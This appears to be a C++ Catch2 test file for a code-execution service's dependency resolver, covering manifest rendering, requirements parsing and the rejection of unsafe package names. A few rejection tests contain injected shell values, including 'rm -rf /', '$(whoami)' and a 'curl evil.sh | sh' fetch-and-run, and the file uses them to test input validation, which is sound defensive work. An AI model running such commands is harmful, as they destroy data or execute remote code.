#include "catch2_custom.hpp"

#include <nexusexec/common/error_types.hpp>
#include <nexusexec/dependency/dependency_resolver.hpp>
#include <nexusexec/execution/source_file.hpp>
#include <nexusexec/language/language_registry.hpp>

#include <nlohmann/json.hpp>

#include <chrono>
#include <string>
#include <vector>

using namespace std::chrono_literals;
using Catch::Matchers::ContainsSubstring;
using nexusexec::DependencyMap;
using nexusexec::DependencyResolver;
using nexusexec::ErrorKind;
using nexusexec::LanguageRegistry;
using nexusexec::SourceFile;

TEST_CASE("No dependencies, nothing to install") {
    LanguageRegistry registry;
    DependencyResolver resolver;

    auto plan = resolver.plan(registry.resolve("python")->get(), {}, {});
    REQUIRE(plan);
    REQUIRE_FALSE(plan->has_value());
}

TEST_CASE("Package tokens") {
    REQUIRE(DependencyResolver::is_valid_package_token("numpy"));
    REQUIRE(DependencyResolver::is_valid_package_token("@types/node"));
    REQUIRE(DependencyResolver::is_valid_package_token("com.google.guava:guava"));
    REQUIRE(DependencyResolver::is_valid_package_token("^4.17.21"));
    REQUIRE(DependencyResolver::is_valid_package_token(">=1.2"));

    REQUIRE_FALSE(DependencyResolver::is_valid_package_token(""));
    REQUIRE_FALSE(DependencyResolver::is_valid_package_token("--index-url"));
    REQUIRE_FALSE(DependencyResolver::is_valid_package_token("numpy; rm -rf /"));
    REQUIRE_FALSE(DependencyResolver::is_valid_package_token("a b"));
    REQUIRE_FALSE(DependencyResolver::is_valid_package_token("$(whoami)"));
}

TEST_CASE("requirements.txt rendering") {
    DependencyMap deps{{"requests", "2.31.0"}, {"numpy", "*"}, {"pandas", ">=2.0"}, {"flask", ""}};

    REQUIRE(DependencyResolver::render_requirements(deps) == "flask\nnumpy\npandas>=2.0\nrequests==2.31.0\n");
}

TEST_CASE("requirements.txt parsing") {
    auto deps = DependencyResolver::parse_requirements("# pinned\nrequests == 2.31.0\r\n\n  numpy\n");

    REQUIRE(deps == DependencyMap{{"requests", "2.31.0"}, {"numpy", "*"}});
}

TEST_CASE("requirements.txt parsing keeps version constraints apart from the name") {
    auto deps = DependencyResolver::parse_requirements("requests>=2.0\nflask ~=3.0\nurllib3!=2.0.0\nsix<2\n");

    REQUIRE(deps == DependencyMap{{"requests", ">=2.0"}, {"flask", "~=3.0"}, {"urllib3", "!=2.0.0"}, {"six", "<2"}});
    REQUIRE(DependencyResolver::render_requirements(deps) == "flask~=3.0\nrequests>=2.0\nsix<2\nurllib3!=2.0.0\n");
}

TEST_CASE("A declared dependency replaces a constrained user requirement") {
    LanguageRegistry registry;
    DependencyResolver resolver{30s};

    std::vector<SourceFile> files{
        SourceFile{.name = "main.py", .content = "import requests"},
        SourceFile{.name = "requirements.txt", .content = "requests>=2.0\n"},
    };

    auto plan = resolver.plan(registry.resolve("python")->get(), {{"requests", "2.31.0"}}, files);
    REQUIRE(plan);
    REQUIRE(plan->has_value());
    REQUIRE((*plan)->manifest.content == "requests==2.31.0\n");
}

TEST_CASE("Python plans merge into a user-supplied requirements.txt") {
    LanguageRegistry registry;
    DependencyResolver resolver{30s};

    std::vector<SourceFile> files{
        SourceFile{.name = "main.py", .content = "import requests"},
        SourceFile{.name = "requirements.txt", .content = "requests==2.0.0\nrich\n"},
    };

    auto plan = resolver.plan(registry.resolve("python")->get(), {{"requests", "2.31.0"}, {"numpy", "*"}}, files);
    REQUIRE(plan);
    REQUIRE(plan->has_value());

    const auto& install = **plan;
    REQUIRE(install.manifest.name == "requirements.txt");
    REQUIRE(install.manifest.content == "numpy\nrequests==2.31.0\nrich\n");
    REQUIRE(install.timeout == 30s);
    REQUIRE(install.command == registry.resolve("python")->get().install_command);
}

TEST_CASE("package.json rendering") {
    SECTION("Fresh manifest") {
        auto content = DependencyResolver::render_package_json({{"lodash", "^4.17.21"}, {"chalk", "*"}}, std::nullopt);
        REQUIRE(content);

        auto doc = nlohmann::json::parse(*content);
        REQUIRE(doc["private"] == true);
        REQUIRE(doc["dependencies"]["lodash"] == "^4.17.21");
        REQUIRE(doc["dependencies"]["chalk"] == "*");
    }

    SECTION("Existing manifest keeps its other fields") {
        auto content = DependencyResolver::render_package_json(
            {{"lodash", "4.0.0"}}, R"({"name": "mine", "scripts": {"start": "node main.js"}, "dependencies": {"axios": "1.0.0"}})");
        REQUIRE(content);

        auto doc = nlohmann::json::parse(*content);
        REQUIRE(doc["name"] == "mine");
        REQUIRE(doc["scripts"]["start"] == "node main.js");
        REQUIRE(doc["dependencies"]["axios"] == "1.0.0");
        REQUIRE(doc["dependencies"]["lodash"] == "4.0.0");
    }

    SECTION("Broken manifest") {
        auto content = DependencyResolver::render_package_json({{"lodash", "4.0.0"}}, "{not json");
        REQUIRE(content.has_error());
        REQUIRE(content.error().kind == ErrorKind::DependencyInstallError);
    }
}

TEST_CASE("pom.xml rendering") {
    auto pom = DependencyResolver::render_pom({{"com.google.code.gson:gson", "2.10.1"}});
    REQUIRE(pom);
    REQUIRE_THAT(*pom, ContainsSubstring("<groupId>com.google.code.gson</groupId>"));
    REQUIRE_THAT(*pom, ContainsSubstring("<artifactId>gson</artifactId>"));
    REQUIRE_THAT(*pom, ContainsSubstring("<version>2.10.1</version>"));

    REQUIRE(DependencyResolver::render_pom({{"gson", "2.10.1"}}).has_error());
    REQUIRE(DependencyResolver::render_pom({{"a:b:c", "1.0"}}).has_error());
    REQUIRE(DependencyResolver::render_pom({{"com.google.code.gson:gson", "*"}}).has_error());
}

TEST_CASE("conanfile.txt rendering") {
    auto conanfile = DependencyResolver::render_conanfile({{"fmt", "10.2.1"}, {"zlib", "*"}});

    REQUIRE_THAT(conanfile, ContainsSubstring("[requires]\nfmt/10.2.1\nzlib/[*]\n"));
    REQUIRE_THAT(conanfile, ContainsSubstring("[generators]"));
}

TEST_CASE("A user-supplied pom.xml wins over declared dependencies") {
    LanguageRegistry registry;
    DependencyResolver resolver;

    std::vector<SourceFile> files{
        SourceFile{.name = "Main.java", .content = "public class Main {}"},
        SourceFile{.name = "pom.xml", .content = "<project>mine</project>"},
    };

    auto plan = resolver.plan(registry.resolve("java")->get(), {{"com.google.code.gson:gson", "2.10.1"}}, files);
    REQUIRE(plan);
    REQUIRE((*plan)->manifest.content == "<project>mine</project>");
}

TEST_CASE("Invalid dependency requests") {
    LanguageRegistry registry;
    DependencyResolver resolver;

    auto injected = resolver.plan(registry.resolve("python")->get(), {{"numpy", "1.0; curl evil.sh | sh"}}, {});
    REQUIRE(injected.has_error());
    REQUIRE(injected.error().kind == ErrorKind::DependencyInstallError);

    auto flag = resolver.plan(registry.resolve("javascript")->get(), {{"--registry=http://evil", "*"}}, {});
    REQUIRE(flag.has_error());

    nexusexec::LanguageDescriptor bare{.id = "lua", .entry_file = "main.lua", .source_extension = ".lua",
                                       .run_command = {"lua", "{main}"}};
    auto unsupported = resolver.plan(bare, {{"luasocket", "*"}}, {});
    REQUIRE(unsupported.has_error());
    REQUIRE(unsupported.error().kind == ErrorKind::DependencyInstallError);
    REQUIRE_THAT(unsupported.error().message, ContainsSubstring("lua"));
}
